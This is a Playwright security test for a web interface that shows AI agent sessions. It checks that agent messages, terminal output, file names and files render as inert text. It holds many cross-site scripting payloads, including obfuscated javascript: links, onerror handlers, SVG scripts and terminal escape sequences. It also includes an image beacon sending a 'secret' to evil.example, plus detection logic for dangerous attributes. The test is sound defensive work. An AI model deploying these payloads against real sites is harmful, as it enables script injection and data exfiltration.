// What an agent says, prints and writes may be of hostile making: it stays text, and nobody else is asked for anything.

import type { Page } from "@playwright/test";

import { create, hydrated } from "../support/session.ts";
import { expect, test } from "../support/test.ts";

const EVIL = "http://evil.example";
const RUN = "window.hurt=1;alert(1)";

/** Markdown that would be a script, or ask another site, if it were believed. */
const MARKDOWN = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>`,
  `<a href="javascript:${RUN}">raw</a>`,
  `[scripted](javascript:${RUN})`,
  `[SCRIPTED](JaVaScRiPt:${RUN})`,
  `[entity](&#106;avascript:${RUN})`,
  `[tab](java&Tab;script:${RUN})`,
  `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[vb](vbscript:msgbox(1))`,
  `<javascript:${RUN}>`,
  `[quoted](https://evil.example/"onmouseover="${RUN})`,
  `![stolen](${EVIL}/pixel.png?q=secret)`,
  `![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `![x](x"onerror="${RUN})`,
  `![nested [link](${EVIL}/a.png)](${EVIL}/b.png)`,
  `<link rel=stylesheet href="${EVIL}/a.css"><meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<form action="${EVIL}"><button>Send</button></form><base href="${EVIL}/">`,
  `<style>@import url(${EVIL}/b.css);</style><p style="background:url(${EVIL}/c.png)">p</p>`,
  `\`\`\`html"onload="${RUN}`,
  `</code></pre><script>${RUN}</script>`,
  "```",
  `| <img src=x onerror=${RUN}> | b |`,
  "| --- | --- |",
  `| [c](javascript:${RUN}) | <script>${RUN}</script> |`,
  `A note[^1]. The end of the corpus.`,
].join("\n\n");

/** Colours, a title, a link and the clipboard by escape sequences, and HTML between them. */
const PRINTED = [
  `\\033[31m<script>${RUN}</script>\\033[0m`,
  `\\033]0;<img src=x onerror=${RUN}>\\007`,
  `\\033]8;;javascript:${RUN}\\033\\\\click\\033]8;;\\033\\\\`,
  `\\033]52;c;aHVydA==\\007`,
  `\\033[38;2;1;2;3;\\"onclick=alert(1)m<b>bold</b>`,
  "printed-to-the-end",
].join("\\n");

const NAME = `<img src=x onerror=window.hurt=1>.txt`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><image href="${EVIL}/d.png"/></svg>`;

/** Whatever leaves the browser for somewhere else, opens or breaks the policy. */
async function watch(page: Page, own: string): Promise<string[]> {
  const seen: string[] = [];
  const origin = new URL(own).host;
  page.context().on("request", (request) => {
    const url = new URL(request.url());
    if (!["data:", "blob:"].includes(url.protocol) && url.host !== origin) seen.push(`request ${request.url()}`);
  });
  page.on("dialog", (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.context().on("page", (opened) => seen.push(`window ${opened.url()}`));
  page.on("console", (message) => {
    if (message.text().startsWith("policy broken")) seen.push(message.text());
  });
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      console.info(`policy broken: ${event.violatedDirective} ${event.blockedURI}`);
    });
  });
  return seen;
}

/** What the page holds that could do harm. */
async function harmful(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    if ("hurt" in window) found.push("a script has run");
    for (const element of document.querySelectorAll("main *")) {
      for (const { name, value } of element.attributes) {
        const address = ["href", "src", "action", "formaction", "srcdoc", "xlink:href"].includes(name);
        const scheme = value.trim().toLowerCase().replace(/[\s\u0000-\u001f]/g, "");
        if (name.startsWith("on") || (address && /^(javascript|vbscript|data):/.test(scheme))) {
          found.push(`${element.tagName} ${name}=${value}`);
        }
      }
    }
    const tags = "main script, main iframe, main object, main embed, main base, main style, main link, main meta";
    for (const element of document.querySelectorAll(tags)) found.push(element.outerHTML);
    for (const image of document.querySelectorAll<HTMLImageElement>("main img")) {
      if (new URL(image.src).origin !== location.origin) found.push(image.outerHTML);
    }
    return found;
  });
}

test("hostile words, outputs, names and files stay text", async ({ person, slipway, repository }) => {
  const seen = await watch(person, slipway.address);
  const session = await create(person, {
    repository: repository.name,
    message: [
      `Look at this: <img src=x onerror="${RUN}"> [me](javascript:${RUN})`,
      `/bash printf "${PRINTED.replaceAll("$", "\\$").replaceAll('\\\\"', "'")}"`,
      `/write ${NAME}`,
      `<script>${RUN}</script>`,
      "/write picture.svg",
      SVG,
      `/say ${MARKDOWN}`,
    ].join("\n"),
  });
  await session.idle();
  await expect(session.answer).toContainText("The end of the corpus.");

  await test.step("in the conversation, as it streamed and as it is stored", async () => {
    for (const reload of [false, true]) {
      if (reload) {
        await person.reload();
        await hydrated(person);
      }
      // What is opened may hold more that can be.
      const closed = session.answer.locator("button[aria-expanded=false]");
      while ((await closed.count()) > 0) await closed.first().click();
      await expect(session.log).toContainText("printed-to-the-end");
      await expect(session.answer).toContainText("onerror");
      expect(await harmful(person)).toEqual([]);
    }
  });

  await test.step("in the changes, with the names of files", async () => {
    await person.goto(`/sessions/${session.id}/changes`);
    await hydrated(person);
    await expect(person.getByRole("region", { name: NAME, exact: true })).toContainText("<script>");
    await expect(person.getByRole("region", { name: "picture.svg", exact: true })).toContainText("<svg");
    expect(await harmful(person)).toEqual([]);
  });

  await test.step("in the list and in what is searched", async () => {
    await person.goto("/sessions?q=corpus");
    await hydrated(person);
    await expect(person.locator("main")).toContainText("corpus");
    expect(await harmful(person)).toEqual([]);
  });

  expect(seen, "requests elsewhere, dialogs, windows, broken policies").toEqual([]);
});
